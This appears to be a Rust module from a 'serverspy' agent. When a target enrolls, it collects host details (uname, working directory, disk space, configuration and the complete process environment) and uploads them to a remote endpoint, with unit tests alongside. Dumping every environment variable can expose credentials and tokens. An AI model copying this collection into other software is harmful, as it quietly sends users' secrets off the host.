//! `verify` — host metadata a new target reports when it is enrolled.

use std::collections::BTreeMap;
use std::path::Path;

use serde::Serialize;
use serde_json::{Value, json};

use serverspy_common::{AgentConfig, AgentError, CallTrace, TaskName};

use super::{TaskContext, blocking};
use crate::upload::UploadConnector;

/// Free and total bytes of the filesystem holding the working path.
#[derive(Debug, Clone, Copy, Serialize)]
pub struct DiskSpace {
    pub free: Option<u64>,
    pub capacity: Option<u64>,
}

/// The `data` object of a verify submission.
#[derive(Debug, Clone, Serialize)]
pub struct HostReport {
    pub pwd: String,
    pub uname: String,
    pub runtime: String,
    pub os: &'static str,
    pub path: String,
    pub disk: DiskSpace,
    /// Process environment snapshot.
    pub server: BTreeMap<String, String>,
    /// Registered task handlers → agent version.
    pub extensions: BTreeMap<&'static str, &'static str>,
    /// Effective configuration.
    pub ini: BTreeMap<String, String>,
}

impl HostReport {
    /// Gather the report. Blocking: stats the filesystem.
    pub fn gather(config: &AgentConfig) -> Self {
        let path = config.resolved_work_dir();
        Self {
            pwd: std::env::current_dir()
                .map_or_else(|_| String::new(), |d| d.display().to_string()),
            uname: uname(),
            runtime: concat!(env!("CARGO_PKG_NAME"), " ", env!("CARGO_PKG_VERSION")).to_string(),
            os: std::env::consts::OS,
            disk: disk_space(&path),
            path: path.display().to_string(),
            server: std::env::vars_os()
                .map(|(k, v)| {
                    (
                        k.to_string_lossy().into_owned(),
                        v.to_string_lossy().into_owned(),
                    )
                })
                .collect(),
            extensions: TaskName::ALL
                .into_iter()
                .map(|name| (name.as_str(), env!("CARGO_PKG_VERSION")))
                .collect(),
            ini: config.settings(),
        }
    }
}

/// `sysname nodename release version machine`, as `uname -a` prints it.
fn uname() -> String {
    match nix::sys::utsname::uname() {
        Ok(uts) => [
            uts.sysname(),
            uts.nodename(),
            uts.release(),
            uts.version(),
            uts.machine(),
        ]
        .iter()
        .map(|part| part.to_string_lossy())
        .collect::<Vec<_>>()
        .join(" "),
        Err(e) => {
            tracing::debug!(error = %e, "uname failed");
            format!("{} {}", std::env::consts::OS, std::env::consts::ARCH)
        }
    }
}

fn disk_space(path: &Path) -> DiskSpace {
    match nix::sys::statvfs::statvfs(path) {
        Ok(vfs) => {
            let frag = u64::from(vfs.fragment_size());
            DiskSpace {
                free: u64::from(vfs.blocks_available()).checked_mul(frag),
                capacity: u64::from(vfs.blocks()).checked_mul(frag),
            }
        }
        Err(e) => {
            tracing::debug!(path = %path.display(), error = %e, "statvfs failed");
            DiskSpace {
                free: None,
                capacity: None,
            }
        }
    }
}

pub(super) async fn run<U: UploadConnector>(
    ctx: &TaskContext<'_, U>,
    trace: &mut CallTrace,
) -> Result<Value, AgentError> {
    let config = ctx.config.clone();
    let report = blocking(move || HostReport::gather(&config)).await?;

    let body = json!({
        "taskId": ctx.task_id,
        "data": report,
    });
    let endpoint = format!("targets/tasks/{}", ctx.task_id);
    ctx.api.call(ctx.api.post(&endpoint, body), trace).await
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config_in(dir: &Path) -> AgentConfig {
        AgentConfig {
            work_dir: Some(dir.to_path_buf()),
            ..AgentConfig::default()
        }
    }

    #[test]
    fn report_describes_working_path() {
        let dir = tempfile::TempDir::new().unwrap();
        let report = HostReport::gather(&config_in(dir.path()));

        assert_eq!(report.path, dir.path().display().to_string());
        assert_eq!(report.os, std::env::consts::OS);
        assert!(report.runtime.starts_with("serverspy-agent "));
        let (free, capacity) = (report.disk.free.unwrap(), report.disk.capacity.unwrap());
        assert!(capacity > 0 && free <= capacity);
    }

    #[test]
    fn report_lists_handlers_and_settings() {
        let dir = tempfile::TempDir::new().unwrap();
        let report = HostReport::gather(&config_in(dir.path()));

        let handlers: Vec<_> = report.extensions.keys().copied().collect();
        assert_eq!(handlers, ["map", "metrics", "push", "verify"]);
        assert_eq!(report.ini["upload_host"], "upload.serverspy.io");
    }

    #[test]
    fn report_snapshots_environment() {
        let dir = tempfile::TempDir::new().unwrap();
        let report = HostReport::gather(&config_in(dir.path()));
        let expected = std::env::vars_os().count();
        assert_eq!(report.server.len(), expected);
    }

    #[test]
    fn uname_names_the_kernel() {
        let uname = uname();
        if cfg!(target_os = "linux") {
            assert!(uname.starts_with("Linux "), "{uname}");
        }
    }

    #[test]
    fn missing_path_has_unknown_disk_space() {
        let disk = disk_space(Path::new("/nonexistent/serverspy"));
        assert!(disk.free.is_none() && disk.capacity.is_none());
    }

    #[test]
    fn report_serializes_expected_keys() {
        let dir = tempfile::TempDir::new().unwrap();
        let value = serde_json::to_value(HostReport::gather(&config_in(dir.path()))).unwrap();
        for key in [
            "pwd", "uname", "runtime", "os", "path", "disk", "server", "extensions", "ini",
        ] {
            assert!(value.get(key).is_some(), "missing {key}");
        }
        assert!(value["disk"].get("free").is_some());
        assert!(value["disk"].get("capacity").is_some());
    }
}
